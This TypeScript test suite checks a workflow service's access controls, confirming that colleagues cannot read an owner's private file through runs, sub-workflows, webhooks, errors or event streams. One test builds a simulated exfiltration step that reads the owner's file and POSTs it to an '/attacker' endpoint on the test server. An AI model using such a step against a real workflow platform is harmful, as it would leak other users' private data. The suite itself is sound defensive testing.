/** A colleague uses runs to get at files that the API would not list for them. */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import type { Json, JsonObject } from "../../../src/lib/json.ts";
import { httpTest } from "../../support/runs/http_tests.ts";
import { type Colleague, openOffice } from "./office.ts";

const PRIVATE = "salaries of everybody: 4711";

const LIST = { id: "list", service: "files", action: "list", with: {} };
const READ = {
  id: "read",
  service: "files",
  action: "read",
  with: { objectKey: "${{ inputs.key }}" },
};
const READ_FIRST = {
  ...READ,
  with: { objectKey: "${{ steps.list.output.files[0].objectKey }}" },
};
const TELL = {
  id: "tell",
  service: "http",
  action: "request",
  with: { url: "${{ inputs.url }}", method: "POST", text: "${{ steps.read.output.text }}" },
};

/** Those of the values that show the content of the owner's file. */
function seen(values: readonly Json[]): string[] {
  return values.map((value) => JSON.stringify(value))
    .filter((text) => text.includes("salaries"));
}

/** All that a colleague is shown of a run. */
async function shownTo(colleague: Colleague, runId: string): Promise<Json[]> {
  const requests = [
    `GET /runs/${runId}`,
    `GET /runs/${runId}/steps?parent=rounds`,
    `GET /runs/${runId}/step-output?path=steps%5B0%5D`,
    "GET /runs",
    "GET /questions",
  ];
  return await Promise.all(requests.map(async (request) => (await colleague.call(request)).body));
}

httpTest(
  "a reader of the workflow sees no file of the owner's own in the owner's runs",
  async () => {
    await using office = await openOffice();
    const { owner, reader, writer } = office;
    await owner.upload("salaries.txt", PRIVATE);
    const loop = { id: "rounds", forEach: "[1, 2]", steps: [{ ...LIST, id: "each" }] };
    const definition: JsonObject = {
      steps: [LIST, READ_FIRST, loop],
      outputs: { text: "${{ steps.read.output.text }}" },
    };
    const workflowId = await owner.publish(definition, { isShared: true });
    const run = await owner.run(workflowId);
    deepEqual(run.outputs, { text: PRIVATE }, "the owner reads what is the owner's own");
    for (const colleague of [reader, writer]) {
      const shown = await colleague.expect(200, `GET /runs/${run.runId}`);
      deepEqual([shown.status, shown.outputs], ["succeeded", null]);
      equal(shown.steps[0].status, "succeeded");
      deepEqual(seen(await shownTo(colleague, run.runId)), []);
    }
    equal((await owner.call(`GET /runs/${run.runId}/step-output?path=steps%5B1%5D`)).status, 200);
  },
);

httpTest("a writer's version takes no file of the owner's when it runs as the owner", async () => {
  await using office = await openOffice();
  const { owner, writer, server } = office;
  await owner.upload("salaries.txt", PRIVATE);
  const workflowId = await owner.publish({ steps: [] }, { isShared: true });
  const url = `${server.url}/attacker`;
  const inputs = { url: { type: "string", default: url } };
  await writer.publishAgain(workflowId, { inputs, steps: [LIST, READ_FIRST, TELL] });
  const hook = await writer.expect(201, `POST /workflows/${workflowId}/webhooks`, {
    waitSeconds: 30,
  });
  const answer = await fetch(hook.url, { method: "POST" });
  deepEqual(seen([await answer.json()]), []);
  const run = await owner.run(workflowId);
  deepEqual(server.hitsOf("/attacker").map(({ body }) => body), []);
  deepEqual(run.steps[0].output, { files: [] });
});

httpTest("a writer takes no file of the owner's through the owner's own sub-workflow", async () => {
  await using office = await openOffice();
  const { owner, writer } = office;
  await owner.upload("salaries.txt", PRIVATE);
  const outputs = { text: "${{ steps.read.output.text }}" };
  await owner.publish({ name: "Mine", steps: [LIST, READ_FIRST], outputs });
  const workflowId = await owner.publish({ steps: [] }, { isShared: true });
  const call = { id: "call", service: "workflow", action: "run", with: { workflow: "Mine" } };
  await writer.publishAgain(workflowId, { steps: [call] });
  const hook = await writer.expect(201, `POST /workflows/${workflowId}/webhooks`, {
    waitSeconds: 30,
  });
  const { runId } = await (await fetch(hook.url, { method: "POST" })).json();
  const run = await writer.settled(runId);
  deepEqual(seen([run]), []);
  equal(run.status, "failed");
});

httpTest(
  "a sub-workflow that is given the text of the owner's own file shows it to nobody else",
  async () => {
    await using office = await openOffice();
    const { owner, reader, writer } = office;
    await owner.upload("salaries.txt", PRIVATE);
    const inner = await owner.publish({
      name: "Inner",
      inputs: { text: { type: "string" } },
      steps: [],
      outputs: { text: "${{ inputs.text }}" },
    }, { isShared: true });
    const call = {
      id: "call",
      service: "workflow",
      action: "run",
      with: { workflow: "Inner", inputs: { text: "${{ steps.read.output.text }}" } },
    };
    const outer = await owner.publish({ steps: [LIST, READ_FIRST, call] }, { isShared: true });
    equal((await owner.run(outer)).status, "succeeded");
    const { runs: [{ runId }] } = await owner.expect(200, `GET /workflows/${inner}/runs`);
    deepEqual((await owner.settled(runId)).outputs, { text: PRIVATE });
    for (const colleague of [reader, writer]) {
      const shown = await colleague.expect(200, `GET /runs/${runId}`);
      deepEqual([shown.status, shown.outputs], ["succeeded", null]);
      deepEqual(seen(await shownTo(colleague, runId)), []);
    }
  },
);

httpTest("an error that quotes the owner's own file is told to the owner alone", async () => {
  await using office = await openOffice();
  const { owner, reader, writer } = office;
  await owner.upload("salaries.txt", PRIVATE);
  const parse = {
    id: "parse",
    service: "data",
    action: "parse",
    with: { text: "${{ steps.read.output.text }}", as: "json" },
  };
  const workflowId = await owner.publish({ steps: [LIST, READ_FIRST, parse] }, { isShared: true });
  const { runId, error } = await owner.run(workflowId);
  match(error.message, /salaries/);
  for (const colleague of [reader, writer]) {
    const shown = await colleague.expect(200, `GET /runs/${runId}`);
    deepEqual([shown.error.code, shown.error.stepId], [error.code, "parse"]);
    deepEqual(seen(await shownTo(colleague, runId)), []);
    deepEqual(seen([await colleague.text(`GET /runs/${runId}/events`)]), []);
  }
});

httpTest("a run tells the sender of its webhook nothing of its owner's own files", async () => {
  await using office = await openOffice();
  const { owner, reader } = office;
  await owner.upload("salaries.txt", PRIVATE);
  const outputs = { text: "${{ steps.read.output.text }}" };
  const workflowId = await owner.publish({ steps: [LIST, READ_FIRST], outputs }, {
    isShared: true,
  });
  const hook = await owner.expect(201, `POST /workflows/${workflowId}/webhooks`, {
    waitSeconds: 30,
  });
  const answer = await (await fetch(hook.url, { method: "POST" })).json();
  deepEqual([answer.status, answer.outputs], ["succeeded", null]);
  deepEqual(seen(await shownTo(reader, answer.runId)), []);
});

httpTest("an event stream of a reader tells nothing of the owner's own files", async () => {
  await using office = await openOffice();
  const { owner, reader } = office;
  await owner.upload("salaries.txt", PRIVATE);
  const ask = {
    id: "ask",
    service: "human",
    action: "approve",
    with: { message: "Send ${{ steps.list.output.files[0].name }}?" },
  };
  const say = {
    id: "say",
    service: "code",
    action: "run",
    with: { input: "${{ steps.read.output.text }}", source: "console.log(input); return 1;" },
  };
  const steps = [LIST, READ_FIRST, say, ask];
  const workflowId = await owner.publish({ steps }, { isShared: true });
  const runId = await owner.start(workflowId);
  await owner.settled(runId, "waiting");
  deepEqual(seen(await shownTo(office.writer, runId)), [], "the question is the owner's");
  await office.writer.expect(403, `POST /runs/${runId}/answer`, { stepId: "ask", approved: true });
  await owner.expect(200, `POST /runs/${runId}/answer`, { stepId: "ask", approved: true });
  await owner.settled(runId);
  match(await owner.text(`GET /runs/${runId}/events`), /event: log\nid: \d+\ndata: .*salaries/);
  const told = await reader.text(`GET /runs/${runId}/events`);
  match(told, /event: step/);
  deepEqual(seen([told]), []);
});

httpTest(
  "a file made by a run that read its owner's own files is neither listed nor read by others",
  async () => {
    await using office = await openOffice();
    const { owner, reader } = office;
    await owner.upload("salaries.txt", PRIVATE);
    const write = {
      id: "write",
      service: "files",
      action: "write",
      with: { name: "copy of salaries.txt", text: "${{ steps.read.output.text }}" },
    };
    const workflowId = await owner.publish({ steps: [LIST, READ_FIRST, write] }, {
      isShared: true,
    });
    const made = await owner.run(workflowId);
    equal(made.status, "succeeded");
    const known = { ...READ, with: { objectKey: made.steps[2].output.objectKey } };
    await owner.publishAgain(workflowId, { steps: [LIST, known] });
    const run = await reader.run(workflowId);
    deepEqual(run.steps[0].output, { files: [] });
    deepEqual([run.status, run.error.code, run.error.stepId], ["failed", "not_found", "read"]);
  },
);

httpTest(
  "a reader's run lists the workflow's files and the given ones, not the reader's others",
  async () => {
    await using office = await openOffice();
    const { owner, reader } = office;
    const write = {
      id: "write",
      service: "files",
      action: "write",
      with: { name: "report.txt", text: "r" },
    };
    const inputs = { key: { type: "file" } };
    const workflowId = await owner.publish({ inputs, steps: [write, LIST, READ] }, {
      isShared: true,
    });
    const key = await reader.upload("given.txt", "given");
    await reader.upload("other salaries.txt", PRIVATE);
    const run = await reader.run(workflowId, { inputs: { key } });
    deepEqual(
      run.steps[1].output.files.map(({ name }: { name: string }) => name).sort(),
      ["given.txt", "report.txt"],
    );
    equal(run.steps[2].output.text, "given");
    deepEqual((await owner.expect(200, `GET /runs/${run.runId}`)).steps[2].output, {
      text: "given",
    });
  },
);

httpTest(
  "an input of type file takes the caller's files and readable workflows' alone",
  async () => {
    await using office = await openOffice();
    const { owner, reader, outsider } = office;
    const inputs = { key: { type: "file" } };
    const workflowId = await owner.publish({ inputs, steps: [READ] }, { isShared: true });
    const refused: [string, string][] = [
      ["a colleague's own", await owner.upload("salaries.txt", PRIVATE)],
      ["another organization's", await outsider.upload("salaries.txt", PRIVATE)],
      ["unknown", (await reader.upload("x.txt", "")).replace("x.txt", "y.txt")],
    ];
    for (const [what, key] of refused) {
      const body = { inputs: { key } };
      const answer = await reader.call(`POST /workflows/${workflowId}/runs`, body);
      equal(answer.status, 422, what);
    }
    const write = {
      id: "w",
      service: "files",
      action: "write",
      with: { name: "r.txt", text: "r" },
    };
    const made = await owner.run(
      await owner.publish({ name: "Maker", steps: [write] }, {
        isShared: true,
      }),
    );
    const key = made.steps[0].output.objectKey;
    equal((await reader.run(workflowId, { inputs: { key } })).steps[0].output.text, "r");
  },
);

httpTest("an answer of type file takes files that the one who answers may read", async () => {
  await using office = await openOffice();
  const { owner, writer } = office;
  const ask = {
    id: "ask",
    service: "human",
    action: "ask",
    with: { message: "Which?", fields: { key: { type: "file" } } },
  };
  const read = { ...READ, with: { objectKey: "${{ steps.ask.output.answers.key }}" } };
  const workflowId = await owner.publish({ steps: [ask, read] }, { isShared: true });
  const runId = await owner.start(workflowId);
  await owner.settled(runId, "waiting");
  const foreign = { stepId: "ask", answers: { key: await owner.upload("salaries.txt", PRIVATE) } };
  await writer.expect(422, `POST /runs/${runId}/answer`, foreign);
  const own = { stepId: "ask", answers: { key: await writer.upload("w.txt", "the writer's") } };
  await writer.expect(200, `POST /runs/${runId}/answer`, own);
  equal((await writer.settled(runId)).steps[1].output.text, "the writer's");
});

httpTest("a key that a step makes up reads nothing outside of the workflow", async () => {
  await using office = await openOffice();
  const { owner, reader } = office;
  const key = await owner.upload("salaries.txt", PRIVATE);
  const workflowId = await reader.publish({ steps: [{ ...READ, with: { objectKey: key } }] });
  const run = await reader.run(workflowId);
  deepEqual(seen([run.outputs, run.steps[0].output]), []);
  equal(run.status, "failed");
});

httpTest("a test of one step reaches the caller's own files", async () => {
  await using office = await openOffice();
  const { owner, reader } = office;
  await owner.upload("salaries.txt", PRIVATE);
  await reader.upload("mine.txt", "mine");
  const tested = await reader.expect(200, "POST /steps/test", { step: LIST });
  const names = tested.output.files.map(({ name }: { name: string }) => name);
  deepEqual(names, ["mine.txt"]);
  ok(tested.status === "succeeded");
});
